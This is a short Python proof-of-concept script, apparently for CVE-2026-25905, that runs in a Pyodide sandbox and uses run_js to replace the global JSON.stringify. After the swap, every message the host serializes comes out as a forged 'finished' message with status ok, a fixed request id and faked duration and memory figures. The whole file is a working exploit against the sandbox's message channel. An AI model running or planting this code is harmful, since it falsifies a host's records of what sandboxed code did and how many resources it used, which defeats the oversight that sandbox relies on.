"""Replaces the function that writes the host's messages, to forge them (CVE-2026-25905)."""

from pyodide.code import run_js

run_js("""() => {
  const figures = { duration_ms: 1, memory_bytes: 1 };
  const forged = { type: "finished", request_id: 99, status: "ok", ...figures };
  const { stringify } = JSON;
  JSON.stringify = () => stringify(forged);
}""")()
print("a message to be forged")
